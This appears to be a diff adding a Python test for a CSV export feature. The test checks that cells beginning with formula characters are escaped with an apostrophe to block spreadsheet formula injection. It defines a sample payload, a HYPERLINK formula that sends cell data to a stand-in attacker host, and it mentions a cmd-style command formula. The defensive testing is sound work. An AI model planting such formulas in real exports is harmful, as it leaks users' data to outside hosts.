@@ -1,0 +1,70 @@
+"""Outside probe (tenth session): `arbiter export --format csv` and spreadsheet formulas.
+
+A CSV cell that begins with `=`, `+`, `-`, `@` (or a tab or CR) is a formula to Excel, LibreOffice
+and Google Sheets: `=HYPERLINK("http://evil/?"&A1,"open")` sends a row's data away on a click,
+`=cmd|...` once ran programs. Text from outside reaches exported cells: a discovered model's id
+is whatever an upstream's listing says (any printable text), and a tenant named before names
+were checked keeps its name. Those cells were written as they came; each text cell that a
+spreadsheet would read as a formula now starts with an apostrophe (OWASP's advice), which the
+spreadsheet shows as text and drops. Numbers and the JSON columns are untouched."""
+
+from __future__ import annotations
+
+import csv
+import io
+import time
+from pathlib import Path
+
+from arbiter.records import Attempt, Candidate, DecisionRecord
+from arbiter.store import open_store
+from arbiter.store.export import CSV_COLUMNS, export
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+
+
+def _decision(model: str, tenant: str, error: str | None, cost: float) -> DecisionRecord:
+    return DecisionRecord(
+        id="dec_1",
+        ts=time.time(),
+        tenant=tenant,
+        task="chat",
+        mode="passthrough",
+        chosen_model=model,
+        reason=f"pass-through: the client asked for {model}",
+        candidates=(Candidate(model, 0.8, 0.8, cost),),
+        attempts=(Attempt(model, error is None, 12.0, error),),
+        status="ok" if error is None else "failed",
+        cost_usd=cost,
+        baseline_model="big",
+        baseline_cost_usd=0.01,
+        latency_ms=12.0,
+        prompt_tokens=3,
+        completion_tokens=2,
+        stream=False,
+        difficulty=None,
+        key_id="k1",
+        error=error,
+        cost_source="upstream",
+    )
+
+
+def test_exported_csv_cells_are_never_formulas(tmp_path: Path) -> None:
+    store = open_store(f"sqlite:///{tmp_path / 'arbiter.db'}")
+    try:
+        store.migrate()
+        store.write([_decision(FORMULA, "-2+3", "@SUM(A1:A9)", -0.5)])
+        out = io.StringIO()
+        assert export(store, 0.0, "csv", out) == 1
+    finally:
+        store.close()
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    assert tuple(row) == CSV_COLUMNS
+    assert row["chosen_model"] == "'" + FORMULA
+    assert row["tenant"] == "'-2+3"
+    assert row["error"] == "'@SUM(A1:A9)"
+    assert row["cost_usd"] == "-0.5"  # a number stays a number
+    assert row["reason"] == f"pass-through: the client asked for {FORMULA}"  # not at the start
+    assert row["candidates"].startswith("[")  # JSON text, the model's id inside as it is
+    for column, cell in row.items():
+        assert cell[:1] not in ("=", "+", "@", "\t", "\r"), (column, cell)
+        assert not (cell.startswith("-") and column != "cost_usd"), (column, cell)
